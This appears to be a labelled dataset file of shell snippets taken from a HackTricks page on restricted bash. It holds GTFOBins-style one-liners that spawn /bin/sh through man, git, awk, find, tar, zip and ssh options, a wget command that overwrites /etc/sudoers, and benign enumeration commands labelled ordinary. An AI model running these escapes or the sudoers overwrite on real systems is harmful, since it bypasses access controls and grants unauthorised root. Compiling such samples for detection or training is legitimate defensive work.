S("HackTricks-wiki/hacktricks", "src/linux-hardening/privilege-escalation/escaping-from-limited-bash.md",
  "01a21b4a1f278ff6c2e9286ccdbc8ffdafc2eb5d")
add("escape", None, "Bash Jails: pagers / GTFOBins one-liners / SSH", r'''
man '-H/bin/sh #' man
PAGER='/bin/sh -c "exec sh 0<&1"' git -p help
awk 'BEGIN {system("/bin/sh")}'
find . -exec /bin/sh \; -quit
tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh
zip /tmp/zip.zip /etc/hosts -T --unzip-command='sh -c /bin/sh'
script /dev/null -c bash
ssh localhost /bin/sh
ssh -o PermitLocalCommand=yes -o LocalCommand=/bin/sh localhost
ssh -o ProxyCommand=';/bin/sh 0<&2 1>&2' x
''')
add(M, "privilege_escalation", "Wget", r'''
wget http://127.0.0.1:8080/sudoers -O /etc/sudoers
''')
add("ordinary", None, "Bash Jails: Enumeration", r'''
echo $0
echo $SHELL
echo $PATH
env
set -o
compgen -c | sort -u
enable -a
type -a bash sh rbash ssh vi vim less more man awk find tar zip git scp script 2>/dev/null
echo /home/*
''')
